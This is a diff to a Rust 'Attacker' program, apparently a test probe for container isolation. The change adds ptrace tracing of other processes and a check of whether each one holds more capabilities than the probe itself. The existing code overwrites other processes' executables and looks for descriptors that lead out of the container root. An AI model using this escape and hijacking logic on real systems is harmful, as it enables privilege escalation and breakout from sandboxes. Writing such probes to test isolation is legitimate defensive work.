@@ -1,6 +1,6 @@
 //! A process of a container that wants out.
 //!
-//! It holds open the program of every other process that it meets and writes to it once nobody executes it any
+//! It traces whatever others it may, and notes which of them may more than it may itself. It holds open the program of every other process that it meets and writes to it once nobody executes it any
 //! more, and looks for a descriptor of any other process that leads out of the container's root. What it achieved
 //! goes to `/tmp/log`. It ends when `/tmp/stop` is there.
 //!
@@ -12,6 +12,7 @@ use std::io::Write;
 use std::os::fd::{AsRawFd, OwnedFd};
 use std::path::Path;
 
+use coble_sys::ptrace::{self, Change};
 use rustix::fs::{Mode, OFlags, open, openat};
 
 /// How often one program is held, so that descriptors don't run out.
@@ -21,6 +22,7 @@ struct Attacker {
     log: File,
     outside: String,
     held: BTreeMap<String, Vec<OwnedFd>>,
+    traced: Vec<String>,
 }
 
 fn main() {
@@ -28,13 +30,15 @@ fn main() {
     let log = OpenOptions::new().create(true).append(true).open("/tmp/log").expect("a log");
     let up = "../".repeat(32);
     let outside = format!("{up}{}", outside.trim_start_matches('/'));
-    let mut attacker = Attacker { log, outside, held: BTreeMap::new() };
+    let mut attacker = Attacker { log, outside, held: BTreeMap::new(), traced: Vec::new() };
     attacker.note("ready");
     while !Path::new("/tmp/stop").exists() {
         for pid in others() {
+            attacker.trace(&pid);
             attacker.hold_program(&pid);
             attacker.try_descriptors(&pid);
         }
+        let_go_on();
         attacker.write_programs();
     }
 }
@@ -47,7 +51,45 @@ fn others() -> Vec<String> {
     names.filter(|name| name.starts_with(|c: char| c.is_ascii_digit()) && *name != me).collect()
 }
 
+/// Lets everybody go on who has stopped because they are traced.
+fn let_go_on() {
+    while let Ok(Some((pid, change))) = ptrace::next_change() {
+        let _ = match change {
+            Change::Exited(_) | Change::Killed(_) => Ok(()),
+            Change::Signal(signal) => ptrace::go_on(pid, signal),
+            Change::Stopped => ptrace::stay(pid),
+            Change::Call | Change::Traced => ptrace::go_on(pid, 0),
+        };
+    }
+}
+
+/// A member of `/proc/PID/status`.
+fn status(pid: &str, member: &str) -> String {
+    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
+    let value = status.lines().find_map(|line| line.strip_prefix(member)?.strip_prefix(":\t"));
+    value.unwrap_or_default().to_owned()
+}
+
+/// What a process may, one bit each.
+fn rights(pid: &str) -> u64 {
+    u64::from_str_radix(&status(pid, "CapPrm"), 16).unwrap_or_default()
+}
+
 impl Attacker {
+    /// Whoever is traced does whatever the tracer wants.
+    fn trace(&mut self, pid: &str) {
+        if pid.parse().map(ptrace::trace).is_ok_and(|traced| traced.is_ok()) {
+            let line = match rights(pid) & !rights("self") {
+                0 => format!("traced {}", status(pid, "Name")),
+                _ => "traced one that may more".to_owned(),
+            };
+            if !self.traced.contains(&line) {
+                self.note(&line);
+                self.traced.push(line);
+            }
+        }
+    }
+
     fn note(&mut self, line: &str) {
         writeln!(self.log, "{line}").expect("the log");
     }
